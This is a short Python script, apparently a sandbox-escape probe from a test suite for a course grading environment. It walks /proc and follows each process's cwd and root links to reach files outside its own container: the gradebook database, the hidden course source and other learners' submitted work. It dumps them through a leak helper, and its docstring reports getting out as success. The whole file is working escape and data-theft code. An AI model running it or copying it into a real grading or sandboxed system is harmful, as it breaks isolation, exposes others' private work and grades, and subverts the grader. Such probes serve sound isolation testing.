"""Walk /proc: for every visible process (the parent chain first) follow its cwd and root
magic links, look for a gradebook.db, submitted/ and source/ through them, and read them.

Got out: a canary from the course (gradebook, source, other learners) in the output.
"""
import os

pids = _ancestors()
pids += sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
for pid in dict.fromkeys(pids):
    for link in ("cwd", "root"):
        base = f"/proc/{pid}/{link}"
        try:
            target = os.readlink(base)
        except OSError:
            continue
        cands = [base + "/gradebook.db", base + "/../gradebook.db", base + "/../../gradebook.db", base + _COURSE + "/gradebook.db"]
        for c in cands:
            try:
                data = open(c, "rb").read(3 << 20)
                _leak(data, f"{c} (-> {target})")
            except OSError:
                pass
        for sub in ("submitted", "source", "../submitted", "course/submitted"):
            try:
                for root, _, files in os.walk(f"{base}/{sub}"):
                    for f in files:
                        _leak(open(os.path.join(root, f), "rb").read(500_000), os.path.join(root, f))
            except OSError:
                pass
